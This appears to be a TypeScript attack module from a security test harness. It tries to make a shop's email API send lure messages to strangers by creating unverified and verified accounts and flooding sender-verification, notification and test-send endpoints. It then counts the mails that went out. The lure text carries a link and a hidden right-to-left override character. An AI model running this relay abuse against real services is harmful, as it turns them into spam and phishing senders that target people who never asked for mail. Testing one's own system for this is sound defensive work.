import { randomBytes } from 'node:crypto';
import { makeKeys } from '@/lib/auth/keys/make-keys';
import type { Attack, Target } from './attack';

type Client = (path: string, fields: Record<string, unknown>) => Promise<number>;

/** Addresses of strangers are below this domain. */
export const STRANGERS = 'strangers.example';
/** What the attacker wants strangers to read. */
export const LURE = 'Prizes at https://lure.example/now or lure.example\u202e';

const PARALLEL = 8;
/** How often each way is tried: by an account that has confirmed nothing, at one address, and at addresses of their own. */
const TRIES = { short: { way: 5, one: 15, many: 210 }, full: { way: 500, one: 1_000, many: 5_000 } };

const tag = () => randomBytes(5).toString('hex');

/** A client with the keys of a new account. */
async function newClient({ server, sql }: Target, isConfirmed: boolean): Promise<Client> {
  const { publicKey, secretKey, secretKeyHash } = makeKeys();
  await sql`
    insert into users (email, password_hash, public_key, secret_key_hash, email_verified_at)
    values (${`attacker.${tag()}@lure.example`}, 'x', ${publicKey}, ${secretKeyHash}, ${isConfirmed ? new Date() : null})`;
  return async (path, fields) => {
    const response = await fetch(`${server.url}/api/email/${path}`, {
      method: 'POST',
      headers: { PublicKey: publicKey, SecretKey: secretKey, 'content-type': 'application/json' },
      body: JSON.stringify(fields),
    });
    await response.arrayBuffer();
    return response.status;
  };
}

const senderOf = (from_email: string, country_id: number) => ({
  from_name: LURE,
  from_email,
  reply_to_email: 'attacker@lure.example',
  country_id,
  company_address: LURE,
  nickname: LURE,
});

/** Has strangers mailed from the shop's own address, in the attacker's words. */
export const relay: Attack = {
  name: 'relay',
  summary:
    'Accounts have the shop mail strangers, by senders to verify and recipients to notify, as often as they can.',
  async run(target, { scale, signal }) {
    const { way, one, many } = TRIES[scale];
    const [{ id: country } = { id: 0 }] = await target.sql<
      { id: number }[]
    >`select min(id) as id from countries`;
    const statuses = new Map<number, number>();
    const repeat = async (count: number, call: (index: number) => Promise<number>) => {
      for (let next = 0; next < count && !signal.aborted; next += PARALLEL) {
        const calls = Array.from({ length: Math.min(PARALLEL, count - next) }, (_, i) => call(next + i));
        for (const status of await Promise.all(calls)) statuses.set(status, (statuses.get(status) ?? 0) + 1);
      }
    };
    const ways = (client: Client) => [
      (to: string) => client('sender/save', senderOf(to, country)),
      (to: string) => client('notification-recipient/save', { email_address: to, email_owner: LURE }),
      (to: string) => client('single/send/test', { utr: 'x', emails: [to] }),
    ];
    const stranger = await newClient(target, false);
    for (const send of ways(stranger)) await repeat(way, () => send(`unasked.${tag()}@${STRANGERS}`));
    // Several accounts at one address, each within its own limit.
    const victim = `victim.${tag()}@${STRANGERS}`;
    for (const client of [await newClient(target, true), await newClient(target, true)])
      await repeat(one, () => client('sender/save', senderOf(victim, country)));
    const client = await newClient(target, true);
    await repeat(many, (i) =>
      (ways(client)[i % 2] as (to: string) => Promise<number>)(`many.${tag()}@${STRANGERS}`),
    );
    const [got] = await target.sql<{ unasked: number; one: number; many: number }[]>`
      select count(*) filter (where to_address like 'unasked.%')::int as unasked,
        count(*) filter (where to_address = ${victim})::int as one,
        count(*) filter (where to_address like 'many.%')::int as many
      from mails where to_address like ${`%@${STRANGERS}`}`;
    const answers = [...statuses].map(([status, count]) => `${count} × ${status}`).join(', ');
    return `${got?.unasked} emails by an account that has confirmed nothing, ${got?.one} to one address, ${got?.many} by one account (${answers})`;
  },
};
